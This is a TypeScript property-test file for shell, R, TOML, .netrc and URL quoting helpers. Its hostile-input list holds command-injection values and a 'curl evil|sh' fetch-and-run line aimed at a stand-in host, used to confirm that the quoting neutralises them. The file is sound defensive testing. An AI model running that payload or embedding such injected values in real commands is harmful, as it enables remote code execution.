import { spawnSync } from "node:child_process";
import { propertyRuns } from "@packhouse/fixtures/property-runs";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { lineValue, netrcWord, rString, safeAddress, shellWord, tomlString } from "./quoted.ts";

const hostile = [
  "",
  "-rf",
  "~root",
  "=ls",
  "a b",
  "a\nb",
  "'",
  "'; touch x; '",
  '"',
  "\\",
  "$(touch x)",
  "`touch x`",
  ["$", "{HOME}"].join(""),
  "$HOME",
  "!!",
  "*",
  "?",
  "[a]",
  "{a,b}",
  "a|b",
  "a&b",
  "a;b",
  "a>b",
  "#a",
  "é 🐫",
  "\u0001\u007f\u2028",
  "\ud800",
  "\u202ea\u2066b\u{e0001}",
  "a\u0000b",
  "http://x/$(curl evil|sh)",
];
const text = fc.oneof(fc.constantFrom(...hostile), fc.string({ unit: "binary" }), fc.string());
const asRead = (value: string) => value.toWellFormed().replaceAll("\0", "");

describe("a quoted shell word", () => {
  test("is read by a real shell as the original text, and runs nothing", () => {
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 40 }), (texts) => {
        const { stdout, stderr, status } = spawnSync(
          "/bin/sh",
          ["-c", `printf '%s\\0' ${texts.map(shellWord).join(" ")}`],
          {
            encoding: "utf8",
            env: { PATH: "/nowhere" },
          },
        );
        expect([status, stderr]).toEqual([0, ""]);
        expect(stdout.split("\0").slice(0, -1)).toEqual(texts.map(asRead));
      }),
      propertyRuns(60),
    );
  });

  test("has no quotes unless required", () => {
    expect(shellWord("https://LOGIN:TOKEN@example.org/repo/x/")).toBe("https://LOGIN:TOKEN@example.org/repo/x/");
    expect(shellWord("harbor==1.0+local-1")).toBe("harbor==1.0+local-1");
  });
});

/** Reads a string by the grammar of R (`?Quotes`), as far as we write it. */
function readR(written: string): string {
  const escapes: Record<string, string> = { n: "\n", r: "\r", t: "\t", b: "\b", f: "\f", '"': '"', "\\": "\\" };
  if (!/^"(?:[^"\\]|\\(?:["\\nrtbf]|u[0-9a-f]{4}|U[0-9a-f]{8}))*"$/.test(written))
    throw new Error(`no string of R: ${written}`);
  return written
    .slice(1, -1)
    .replace(/\\(u([0-9a-f]{4})|U([0-9a-f]{8})|.)/g, (_all, letter: string, short?: string, long?: string) => {
      const code = short ?? long;
      if (code !== undefined && /^0+$/.test(code)) throw new Error("R has no NUL");
      return code === undefined ? (escapes[letter] ?? "") : String.fromCodePoint(Number.parseInt(code, 16));
    });
}

test("an R string is read as the original text", () => {
  fc.assert(
    fc.property(text, (value) => {
      expect(rString(value)).not.toMatch(/\p{C}/u);
      expect(readR(rString(value))).toBe(asRead(value));
    }),
    propertyRuns(500),
  );
});

test("a TOML string has no character that TOML refuses", () => {
  fc.assert(
    fc.property(text, (value) => {
      const written = tomlString(value);
      expect(JSON.parse(written)).toBe(asRead(value));
      expect(written).not.toMatch(/\p{Cc}/u);
    }),
    propertyRuns(500),
  );
});

test("values of lines and of .netrc stay on their line", () => {
  fc.assert(
    fc.property(text, (value) => {
      expect(lineValue(value)).not.toMatch(/\p{Cc}/u);
      expect(netrcWord(value)).toMatch(/^([^\s"'#\\]+|"(?:[^"\\]|\\["\\])*")$/);
    }),
    propertyRuns(500),
  );
});

test("an address only has valid characters", () => {
  fc.assert(
    fc.property(text, (value) => {
      expect(safeAddress(value)).toMatch(/^[!-~]*$/);
    }),
    propertyRuns(500),
  );
  expect(safeAddress('http://x/$(curl evil|sh) {a} `b` "c" <d> \\e^')).toBe(
    "http://x/$(curl%20evil%7Csh)%20%7Ba%7D%20%60b%60%20%22c%22%20%3Cd%3E%20%5Ce%5E",
  );
  expect(safeAddress("https://example.org/bay%20of/")).toBe("https://example.org/bay%20of/");
});
